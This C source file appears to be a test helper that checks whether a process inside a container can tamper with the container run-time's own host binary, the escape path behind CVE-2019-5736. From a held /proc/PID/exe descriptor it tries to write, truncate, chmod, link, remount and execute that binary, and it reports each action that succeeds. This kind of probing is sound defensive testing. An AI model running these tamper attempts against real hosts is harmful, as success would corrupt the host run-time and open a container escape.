/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries, from within a container, to get at the program of the run-time (CVE-2019-5736)
 *
 *	exe_attacker SECONDS INODE
 *
 * Looks at all processes in /proc again and again. One whose program has that inode is a
 * process of the run-time: the file is held by an O_PATH fd, and while it runs and when it has
 *ended, everything is tried that would let us write to it or run it. In the end it says how many it
 *could reach, and each thing that it could do.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 32

static int held[HELD_MAX];
static size_t n_held, n_reached;
static ino_t wanted;

static bool can_execute(int fd)
{
	char *const args[] = { (char *)"x", (char *)"--version", NULL };
	char *const none[] = { NULL };
	int ends[2], status;
	char byte;
	pid_t pid;
	ssize_t n;

	if (pipe2(ends, O_CLOEXEC) < 0)
		return false;
	pid = fork();
	if (pid == 0) {
		syscall(SYS_execveat, fd, "", args, none, AT_EMPTY_PATH);
		if (write(ends[1], "", 1) != 1)
			_exit(2);
		_exit(1);
	}
	close(ends[1]);
	n = read(ends[0], &byte, 1); /* closed by exec, or the byte that says that it failed */
	close(ends[0]);
	waitpid(pid, &status, 0);
	return n == 0;
}

static void say(const char *what)
{
	static char said[16][32];
	size_t i = 0;

	for (; said[i][0]; i++)
		if (strcmp(said[i], what) == 0)
			return;
	strncpy(said[i], what, sizeof(said[i]) - 1);
	printf("CAN %s\n", what);
	fflush(stdout);
}

static void try_all(int fd)
{
	const struct mount_attr weaker = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOEXEC };
	char path[64];
	int other;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if ((other = open(path, O_WRONLY | O_CLOEXEC)) >= 0) {
		say("open it for writing");
		close(other);
	}
	if (truncate(path, 1 << 30) >= 0)
		say("change its size");
	if (chmod(path, 0777) >= 0)
		say("change its mode");
	if (setxattr(path, "user.attacker", "x", 1, 0) >= 0)
		say("set an attribute of it");
	if (linkat(fd, "", AT_FDCWD, "/linked", AT_EMPTY_PATH) >= 0)
		say("link it");
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &weaker, sizeof(weaker)) >= 0)
		say("change its mount");
	other = (int)syscall(
	    SYS_open_tree, fd, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
	if (other >= 0) {
		say("copy its mount");
		close(other);
	}
	if (can_execute(fd))
		say("execute it");
}

static void look_at(const char *pid)
{
	char path[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || st.st_ino != wanted || n_held == HELD_MAX) {
		close(fd);
		return;
	}
	n_reached++;
	held[n_held++] = fd;
	try_all(fd);
}

static void scan(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc)))
		if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
		    atoi(entry->d_name) != getpid())
			look_at(entry->d_name);
	if (proc)
		closedir(proc);
}

int main(int argc, char **argv)
{
	time_t end;

	if (argc != 3)
		return 2;
	end = time(NULL) + atoi(argv[1]);
	wanted = strtoul(argv[2], NULL, 10);
	puts("ready");
	fflush(stdout);
	while (time(NULL) < end)
		scan();
	/* By now they have ended: a file that is executed cannot be written by anybody. */
	for (size_t i = 0; i < n_held; i++)
		try_all(held[i]);
	printf("reached %zu\n", n_reached);
	return 0;
}
